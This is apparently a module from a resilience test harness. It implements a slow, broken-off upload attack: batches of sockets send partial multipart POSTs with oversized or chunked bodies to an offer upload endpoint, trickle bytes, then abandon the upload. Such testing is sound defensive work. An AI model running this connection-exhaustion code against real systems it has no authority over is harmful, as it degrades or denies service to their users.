import { randomUUID } from 'node:crypto';
import { offerPath } from '../../../mfe-acquisition/offer/offer.ts';
import { type Attack, head, held, open, repeat } from './attack.ts';

const HOLD_MS = 4_000;

/** Begins an upload, sends a byte now and then, and is gone in its middle. */
export const brokenOffUploads: Attack = {
  name: 'broken-off uploads',
  async run(target, signal) {
    const deeds = { done: 0 };
    await repeat({ atOnce: 6, pauseMs: 200 }, signal, async (nth) => {
      const socket = await open(target);
      socket
        .resume()
        .write(
          `${head(
            'POST',
            offerPath,
            nth % 2 ? 'Content-Length: 9000000' : 'Transfer-Encoding: chunked',
            `Idempotency-Key: ${randomUUID()}`,
            'Content-Type: multipart/form-data; boundary=x',
          )}${nth % 2 ? '--x\r\ncontent-disposition: form-data; name="attachment"; filename="a.pdf"\r\n\r\n%PDF-' : '5\r\n--x\r\n\r\n'}`,
        );
      const timer = setInterval(() => socket.write(nth % 2 ? 'x' : '1\r\nx\r\n'), 500);
      deeds.done += 1;
      await held(socket, HOLD_MS * Math.random(), signal);
      clearInterval(timer);
    });
    return deeds;
  },
};
